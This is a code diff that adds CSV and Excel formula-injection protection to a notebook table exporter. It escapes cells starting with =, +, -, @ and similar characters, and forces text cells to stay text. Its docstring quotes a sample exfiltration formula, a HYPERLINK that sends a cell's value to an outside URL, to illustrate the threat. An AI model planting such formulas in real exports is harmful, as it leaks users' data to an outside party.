@@ -36,6 +36,7 @@ __all__ = [
     "TABLE_MIME",
     "add_alt_text",
     "check_no_key",
+    "csv_safe",
     "export_html",
     "find_chromium",
     "prepare_export",
@@ -459,12 +460,49 @@ def write_tables(nb: nbformat.NotebookNode, folder: Path, stem: str) -> list[Pat
     for table in tables:
         frame = pd.DataFrame(table["data"], columns=table["columns"])
         path = folder / f"{stem}-{table['name']}.csv"
-        frame.to_csv(path, index=False)
+        # CRLF, as RFC 4180 and Excel have it: a carriage return inside a name is then
+        # quoted, not read as the end of a row.
+        safe = frame.map(csv_safe).rename(columns=csv_safe)
+        safe.to_csv(path, index=False, lineterminator="\r\n")
         written.append(path)
         frames.append((_sheet_name(str(table.get("title") or table["name"]), used), frame))
     workbook = folder / f"{stem}.xlsx"
     with pd.ExcelWriter(workbook, engine="openpyxl") as writer:
         for sheet, frame in frames:
             frame.to_excel(writer, sheet_name=sheet, index=False)
+            _text_as_text(writer.sheets[sheet])
     written.append(workbook)
     return written
+
+
+# What a spreadsheet reads as the start of a formula in a CSV cell (OWASP's list).
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def csv_safe(value: Any) -> Any:
+    """Return a CSV cell that no spreadsheet evaluates: text that would start a formula
+    gets a leading apostrophe, as OWASP recommends; numbers, and text that is one, stay.
+
+    A campaign or ad name is whatever someone typed in the ad platform, so
+    ``=HYPERLINK("http://…?leak="&A1)`` must arrive as text.
+
+    Examples
+    --------
+    >>> csv_safe("=1+2"), csv_safe("-3.5"), csv_safe("@SUM(A1)"), csv_safe(7)
+    ("'=1+2", '-3.5', "'@SUM(A1)", 7)
+    """
+    if not isinstance(value, str) or not value.startswith(_FORMULA_START):
+        return value
+    try:
+        float(value)
+    except ValueError:
+        return "'" + value
+    return value
+
+
+def _text_as_text(sheet: Any) -> None:
+    # openpyxl stores a string that starts with "=" as a formula: every text cell is text.
+    for row in sheet.iter_rows():
+        for cell in row:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"
